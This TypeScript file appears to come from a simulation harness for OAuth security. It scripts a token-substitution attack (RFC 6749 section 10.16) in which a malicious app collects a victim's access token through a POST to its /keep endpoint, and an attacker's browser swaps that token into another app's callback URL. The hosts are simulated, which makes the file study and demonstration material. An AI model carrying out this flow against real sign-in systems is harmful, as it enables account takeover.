import { createAuthenticatorApp } from '../../actors/authenticator-app'
import { createUserAgent, type UserAgent } from '../../actors/user-agent'
import type { World } from '../../run/world'
import { ID, LUNCH_MENU, lunchMenuApplication } from './cast'
import { createPage, isCallback, type PageApp, pageFor, pageServer } from './page'
import type { Came } from './verdict'

/**
 * A token that was issued to one app, put into the answer for another (RFC 6749 section 10.16): somebody signs in to an app of
 * Mallory’s, and he to Expenses.
 */
export async function substitute(
  world: World,
  expenses: PageApp,
  victim: UserAgent,
  issuer: string,
  signOut: string,
): Promise<Came> {
  let kept: string | undefined
  const lunchMenu: PageApp = {
    ...expenses,
    program: ID.lunchMenu,
    clientId: lunchMenuApplication.appId,
    origin: LUNCH_MENU,
    redirectUri: lunchMenuApplication.spa.redirectUris[0] ?? '',
    scope: 'openid profile api://expenses.contoso.example/Expenses.Read',
    responseType: 'token',
    responseMode: 'fragment',
  }
  const serve = pageServer(world.called(ID.lunchMenu))
  world.network.mount(LUNCH_MENU, {
    actor: ID.lunchMenu,
    handler: async (request, context) => {
      if (request.method !== 'POST') return serve(request, context)
      kept = request.body
      return { status: 204, headers: [], body: '' }
    },
  })
  const lunch = createPage(world, lunchMenu, victim, issuer)
  const visit = await lunch.visit(0)
  if (!visit.ok)
    return {
      landing: await victim.show(lunch.home, refused(world, lunch.home, visit), visit.seq),
      done: visit,
    }
  const { landing } = visit.value
  if (!isCallback(world, lunchMenu, landing.url)) return { landing, done: undefined }
  const signedIn = await visit.value.finish(landing)
  if (!signedIn.ok)
    return {
      landing: await victim.show(lunch.home, refused(world, lunch.home, signedIn), signedIn.seq),
      done: signedIn,
    }
  const body = signedIn.value.accessToken ?? ''
  const headers = [
    ['Host', new URL(LUNCH_MENU).host],
    ['Content-Type', 'text/plain'],
  ] as const
  const told = await victim.fetch(
    LUNCH_MENU,
    { method: 'POST', url: `${LUNCH_MENU}/keep`, headers, body },
    signedIn.seq,
  )

  const browser = createUserAgent(world, {
    id: ID.thiefBrowser,
    person: ID.thief,
    // An extension of this browser makes the codes.
    phone: createAuthenticatorApp(world, ID.thiefBrowser),
  })
  const page = createPage(world, expenses, browser, issuer)
  const own = await page.visit(told.seq)
  const name = world.called(ID.expenses)
  if (!own.ok)
    return {
      landing: await browser.show(page.home, pageFor(name, page.home, own, signOut), own.seq),
      done: own,
    }
  const came = own.value.landing
  if (!isCallback(world, expenses, came.url)) return { landing: came, done: undefined }
  const done = await own.value.finish(swapped(world, came, kept))
  // What he sees is the end of it.
  const { offers: _, ...seen } = pageFor(name, page.home, done, signOut)
  return { landing: await browser.show(page.home, seen, done.seq), done }

  function refused(at: World, home: string, attempted: Parameters<typeof pageFor>[2]) {
    return pageFor(at.called(ID.lunchMenu), home, attempted, signOut)
  }
}

/** What stands in an address bar can be written by whoever sits there. */
function swapped<T extends { readonly url: string; readonly seq: number }>(
  world: World,
  landing: T,
  token: string | undefined,
): T {
  const url = new URL(landing.url)
  const answer = new URLSearchParams(url.hash.slice(1))
  if (token === undefined || !answer.has('access_token')) return landing
  answer.set('access_token', token)
  url.hash = answer.toString()
  const event = {
    type: 'tampered',
    what: 'access_token',
    before: landing.url,
    after: url.href,
    says: 'In the address bar, the access token is replaced by the one that was issued to the other app.',
    byStory: true,
  } as const
  world.emit(ID.thiefBrowser, event, landing.seq)
  return { ...landing, url: url.href }
}
